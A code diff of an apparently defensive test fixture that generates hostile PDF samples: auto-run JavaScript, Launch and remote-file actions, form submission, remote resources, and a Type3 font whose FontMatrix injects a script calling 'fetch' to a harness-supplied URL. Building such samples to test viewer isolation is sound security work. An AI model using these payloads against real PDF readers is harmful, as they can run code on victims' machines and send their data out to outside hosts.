@@ -1,4 +1,4 @@
-import { streamOf, writePdf, type PdfPage } from "./write-pdf.ts";
+import { streamOf, writePdf, type PdfPage, type PdfParts } from "./write-pdf.ts";
 
 /**
  * What a PDF can do in a reader that lets it: run scripts, call home, start programs. Each names
@@ -12,17 +12,16 @@ const page = (more: Partial<PdfPage> = {}): PdfPage => ({ text: "Read this", ...
 const link = (action: string) =>
   `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} >>]`;
 
-export const HOSTILE_PDFS: Readonly<Record<string, Hostile>> = {
-  "script when opened": (url) => opening(script(url)),
-  "script by name": (url) =>
-    writePdf({
-      pages: [page()],
-      catalog: `/Names << /JavaScript << /Names [(a) ${script(url)}] >> >>`,
+/** What a document does as it is opened: each has one such action. What else it holds acts by itself. */
+const OPENED: Readonly<Record<string, Hostile>> = {
+  // With scripts by name.
+  "script when opened": (url) =>
+    opening(script(url), {
+      catalog: `/Names << /JavaScript << /Names [(a) ${script(`${url}by-name`)}] >> >>`,
     }),
-  "script of a page": (url) =>
-    writePdf({ pages: [page({ entries: `/AA << /O ${script(url)} /C ${script(url)} >>` })] }),
-  "script of a field": (url) =>
-    writePdf({
+  // With scripts of a field.
+  "address when opened": (url) =>
+    opening(`<< /S /URI /URI (${url}) >>`, {
       pages: [page({ entries: "/Annots [4 0 R]" })],
       catalog: "/AcroForm << /Fields [4 0 R] /NeedAppearances true /CO [4 0 R] >>",
       objects: [
@@ -30,39 +29,9 @@ export const HOSTILE_PDFS: Readonly<Record<string, Hostile>> = {
             /AA << /K ${script(url)} /F ${script(url)} /C ${script(url)} /Fo ${script(url)} >> >>`,
       ],
     }),
-  "address when opened": (url) => opening(`<< /S /URI /URI (${url}) >>`),
-  "link to an address": (url) => pageWith(link(`<< /S /URI /URI (${url}) >>`)),
-  "link to a script": (url) => pageWith(link(script(url))),
-  "link to another file": (url) =>
-    pageWith(link(`<< /S /GoToR /F << /FS /URL /F (${url}) >> /D [0 /Fit] >>`)),
-  "program when opened": (url) => opening(`<< /S /Launch /F << /FS /URL /F (${url}) >> >>`),
-  "another file when opened": (url) =>
-    opening(`<< /S /GoToR /F << /FS /URL /F (${url}) >> /D [0 /Fit] >>`),
-  "form that is sent": (url) =>
-    opening(`<< /S /SubmitForm /F << /FS /URL /F (${url}) >> /Flags 4 >>`),
-  "data that is brought in": (url) => opening(`<< /S /ImportData /F << /FS /URL /F (${url}) >> >>`),
-  "picture that lies elsewhere": (url) =>
-    drawing(
-      `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8
-          /ColorSpace /DeviceGray /Length 0 /F << /FS /URL /F (${url}) >> >>\nstream\n\nendstream`,
-    ),
-  "page that lies elsewhere": (url) =>
-    drawing(
-      streamOf(
-        "",
-        `/Type /XObject /Subtype /Form /BBox [0 0 9 9]
-         /Ref << /F << /FS /URL /F (${url}) >> /Page 0 >>`,
-      ),
-    ),
-  "film that is fetched": (url) =>
-    pageWith(
-      `/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100]
-        /A << /S /Rendition /OP 0 /JS (${SCRIPT.replace("URL", url)})
-          /R << /Type /Rendition /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${url}) >> >> >> >> >>]`,
-    ),
-  "form of another kind": (url) =>
-    writePdf({
-      pages: [page()],
+  // With a form of another kind.
+  "program when opened": (url) =>
+    opening(`<< /S /Launch /F << /FS /URL /F (${url}) >> >>`, {
       catalog: "/AcroForm << /Fields [] /XFA 4 0 R >>",
       objects: [
         streamOf(
@@ -72,29 +41,70 @@ export const HOSTILE_PDFS: Readonly<Record<string, Hostile>> = {
         ),
       ],
     }),
-  "font whose matrix is a program": (url) =>
-    writePdf({
-      pages: [page({ content: "BT /F2 24 Tf 9 99 Td (Read this) Tj ET", fonts: "/F2 4 0 R" })],
-      objects: [
-        `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FirstChar 32 /LastChar 33 /Widths [9 9]
-            /FontMatrix [1 0 0 1 0 (0\\); top.ran=1; fetch\\('${url}')] /CharProcs << >> /Encoding << >> >>`,
-      ],
-    }),
+  "another file when opened": (url) =>
+    opening(`<< /S /GoToR /F << /FS /URL /F (${url}) >> /D [0 /Fit] >>`),
+  "form that is sent": (url) =>
+    opening(`<< /S /SubmitForm /F << /FS /URL /F (${url}) >> /Flags 4 >>`),
+  "data that is brought in": (url) => opening(`<< /S /ImportData /F << /FS /URL /F (${url}) >> >>`),
 };
 
-function opening(action: string): Buffer {
-  return writePdf({ pages: [page()], catalog: `/OpenAction ${action}` });
+/** What a page does where it is shown: each is alone on its page. */
+const SHOWN: Readonly<Record<string, (url: string) => PdfPage>> = {
+  "script of a page": (url) => page({ entries: `/AA << /O ${script(url)} /C ${script(url)} >>` }),
+  "link to an address": (url) => page({ entries: link(`<< /S /URI /URI (${url}) >>`) }),
+  "link to a script": (url) => page({ entries: link(script(url)) }),
+  "link to another file": (url) =>
+    page({ entries: link(`<< /S /GoToR /F << /FS /URL /F (${url}) >> /D [0 /Fit] >>`) }),
+  "film that is fetched": (url) =>
+    page({
+      entries: `/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100]
+        /A << /S /Rendition /OP 0 /JS (${SCRIPT.replace("URL", url)})
+          /R << /Type /Rendition /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${url}) >> >> >> >> >>]`,
+    }),
+  "picture that lies elsewhere": () => drawing(4),
+  "page that lies elsewhere": () => drawing(5),
+  "font whose matrix is a program": () =>
+    page({ content: "BT /F2 24 Tf 9 99 Td (Read this) Tj ET", fonts: "/F2 6 0 R" }),
+};
+
+/** Objects 4 and on, which the pages above name. */
+const objectsOf: (url: string) => string[] = (url) => [
+  `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8
+      /ColorSpace /DeviceGray /Length 0 /F << /FS /URL /F (${url}picture) >> >>\nstream\n\nendstream`,
+  streamOf(
+    "",
+    `/Type /XObject /Subtype /Form /BBox [0 0 9 9]
+     /Ref << /F << /FS /URL /F (${url}page) >> /Page 0 >>`,
+  ),
+  `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FirstChar 32 /LastChar 33 /Widths [9 9]
+      /FontMatrix [1 0 0 1 0 (0\\); top.ran=1; fetch\\('${url}font')] /CharProcs << >> /Encoding << >> >>`,
+];
+
+export type HostilePdf = {
+  readonly name: string;
+  readonly content: Buffer;
+  readonly pages: number;
+};
+
+/** A thread of its own draws each: pages that do harm by themselves are those of one document. */
+export function hostilePdfs(urlOf: (attempt: string) => string): HostilePdf[] {
+  const opened = Object.entries(OPENED).map(([name, pdf]) => ({
+    name,
+    content: pdf(urlOf(name)),
+    pages: 1,
+  }));
+  const pages = Object.entries(SHOWN).map(([name, pageOf]) => pageOf(urlOf(name)));
+  const shown = writePdf({ pages, objects: objectsOf(urlOf("object")) });
+  return [...opened, { name: "pages that act", content: shown, pages: pages.length }];
 }
 
-function pageWith(entries: string): Buffer {
-  return writePdf({ pages: [page({ entries })] });
+function opening(action: string, more: Partial<PdfParts> = {}): Buffer {
+  const { catalog = "", ...parts } = more;
+  return writePdf({ pages: [page()], ...parts, catalog: `/OpenAction ${action} ${catalog}` });
 }
 
-/** Draws object 4 below the text. */
-function drawing(object: string): Buffer {
+/** Draws an object below the text. */
+function drawing(object: number): PdfPage {
   const content = "BT /F1 24 Tf 72 700 Td (Read this) Tj ET 99 0 0 99 0 0 cm /X Do";
-  return writePdf({
-    pages: [page({ content, resources: "/XObject << /X 4 0 R >>" })],
-    objects: [object],
-  });
+  return page({ content, resources: `/XObject << /X ${object} 0 R >>` });
 }
